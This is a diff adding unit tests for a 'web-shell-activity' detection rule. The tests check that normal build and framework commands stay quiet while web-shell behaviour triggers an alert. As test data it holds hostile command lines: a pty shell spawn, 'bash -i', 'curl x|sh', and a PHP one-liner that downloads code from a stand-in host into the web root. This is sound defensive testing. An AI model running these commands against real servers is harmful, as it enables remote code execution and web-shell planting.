@@ -76,3 +76,60 @@ describe('rule web-shell-activity', () => {
     assert.notEqual(a?.key, c?.key);
   });
 });
+
+describe('rule web-shell-activity: review findings 5 and 6', () => {
+  const onHost = (filename: string, argv: string[], parent: ReturnType<typeof proc>) => execEvent({ pid: 7000, filename, argv, ancestry: [parent, proc(1, '/sbin/init', ['/sbin/init'], 'systemd')] });
+  const java = proc(5003, '/opt/java/openjdk/bin/java', ['java', '-jar', '/app/app.jar'], 'java');
+
+  test('should not trigger (review 5): npm, yarn, artisan, composer and Jenkins run commands; module names match whole', () => {
+    const cases = [
+      exec('/bin/sh', ['sh', '-c', 'node server.js'], proc(5008, '/usr/local/bin/node', ['npm', 'start'], 'npm start')),
+      exec('/bin/sh', ['sh', '-c', 'tsc -p .'], proc(5008, '/usr/local/bin/node', ['node', '/usr/local/lib/node_modules/npm/bin/npm-cli.js', 'run', 'build'], 'node')),
+      exec('/bin/sh', ['sh', '-c', "'/usr/local/bin/php' 'artisan' queue:work > '/dev/null' 2>&1"], proc(5009, '/usr/local/bin/php', ['php', 'artisan', 'schedule:run'], 'php')),
+      exec('/bin/sh', ['sh', '-c', 'git clone x'], proc(5009, '/usr/local/bin/php', ['php', '/usr/bin/composer', 'install'], 'php')),
+      exec('/bin/sh', ['sh', '-c', 'make test'], proc(5010, '/opt/java/openjdk/bin/java', ['java', '-jar', '/usr/share/jenkins/jenkins.war'], 'java')),
+      exec('/bin/sh', ['sh', '-c', 'eslint .'], proc(5013, '/usr/local/bin/node', ['node', '/opt/yarn-v1.22.19/bin/yarn.js', 'lint'], 'node')),
+      exec('/bin/sh', ['sh', '-c', 'git rev-parse HEAD'], proc(5014, '/opt/java/openjdk/bin/java', ['java', '-Xmx2g', '-cp', '/root/.gradle/wrapper/dists/gradle-8.5/lib/gradle-launcher-8.5.jar', 'org.gradle.launcher.daemon.bootstrap.GradleDaemon', '8.5'], 'java')),
+      onHost('/usr/bin/uname', ['uname', '-r'], proc(5011, '/usr/bin/python3', ['python3', '/usr/sbin/thin_check'], 'python3')),
+      onHost('/bin/sh', ['sh', '-c', 'pg_dump x'], proc(5011, '/usr/bin/python3', ['python3', '-m', 'flask', 'db', 'upgrade'], 'python3')),
+      onHost('/usr/bin/id', ['id'], proc(5011, '/usr/bin/ruby', ['ruby', 'rails_console_helper.rb'], 'ruby')),
+      onHost('/bin/sh', ['sh', '-c', 'ls'], proc(5011, '/usr/bin/python3', ['python3', '/opt/thinkpad-fan.py'], 'python3')),
+    ];
+    for (const ev of cases) assert.equal(fires(ev), false, `${ev.ancestry![0].argv.join(' ')} → ${ev.exec!.argv.join(' ')}`);
+    // The same modules as servers still are: flask run, a rails server, gunicorn as a module.
+    assert.ok(fires(onHost('/bin/sh', ['sh', '-c', 'id'], proc(5012, '/usr/bin/python3', ['python3', '-m', 'flask', 'run'], 'python3'))));
+    assert.ok(fires(onHost('/bin/sh', ['sh', '-c', 'id'], proc(5012, '/usr/local/bin/rails', ['ruby', '/usr/local/bin/rails', 'server'], 'ruby'))));
+    assert.ok(fires(onHost('/bin/sh', ['sh', '-c', 'id'], proc(5012, '/usr/bin/python3', ['python3', '-m', 'gunicorn.app.wsgiapp', 'app:app'], 'python3'))));
+  });
+
+  test('a rules file can take java out of the app runtimes ("!java")', () => {
+    const ev = exec('/bin/sh', ['sh', '-c', 'id'], java);
+    assert.ok(fires(ev));
+    const file = { lists: { app_runtimes: ['!java'] }, rules: {}, intel: { feeds: [] } };
+    assert.equal(webShellActivity.match(ev, ruleContext({ file })), null);
+  });
+
+  test('should trigger (review 6): server look-alikes and one-liners as children, wrappers, scripts from writable dirs, helper bypass', () => {
+    const sh = (cmd: string, pid = 7001) => proc(pid, '/bin/sh', ['sh', '-c', cmd], 'sh');
+    const cases = [
+      exec('/tmp/php-fpm', ['php-fpm', '-c', 'id'], phpFpm),
+      exec('/usr/bin/python3', ['python3', '-c', 'import pty;pty.spawn("/bin/sh")', 'uvicorn'], nginx),
+      exec('/usr/local/bin/node', ['node', '-e', 'require("child_process").execSync("id")'], nginx),
+      exec('/usr/local/bin/php', ['php', '-r', 'file_put_contents("/var/www/x.php",file_get_contents("http://e/x"));'], phpFpm),
+      exec('/bin/bash', ['bash', '-i'], proc(7001, '/usr/bin/nohup', ['nohup', 'bash', '-i'], 'nohup'), java),
+      exec('/usr/bin/id', ['id'], proc(7001, '/usr/bin/timeout', ['timeout', '5', 'id'], 'timeout'), java),
+      exec('/usr/bin/timeout', ['timeout', '5', 'id'], phpFpm),
+      exec('/bin/sh', ['sh', '-c', 'id'], proc(7001, '/usr/bin/setsid', ['setsid', 'sh', '-c', 'id'], 'setsid'), phpFpm),
+      exec('/usr/bin/id', ['id'], proc(7001, '/usr/bin/xargs', ['xargs', 'id'], 'xargs'), phpFpm),
+      exec('/usr/bin/python3', ['python3', '/tmp/x.py'], phpFpm),
+      exec('/usr/bin/perl', ['perl', '/dev/shm/a'], phpFpm),
+      exec('/run/lock/.x', ['/run/lock/.x'], phpFpm),
+      exec('/usr/bin/java', ['java', '-jar', '/tmp/x.jar'], nginx),
+      exec('/bin/sh', ['sh', '-c', '/usr/sbin/sendmail -t </dev/null; id; curl x|sh'], phpFpm),
+      exec('/bin/sh', ['sh', '-c', 'logger "$(id)"'], phpFpm),
+      exec('/opt/bk', ['bk', '-c', 'id'], nginx),
+      exec('/usr/bin/id', ['id'], sh('a', 1), sh('b', 2), sh('c', 3), sh('d', 4), sh('e', 5), sh('f', 6), sh('g', 7), phpFpm),
+    ];
+    for (const ev of cases) assert.ok(fires(ev), `${ev.exec!.argv.join(' ')} under ${ev.ancestry![0].argv.join(' ')}`);
+  });
+});
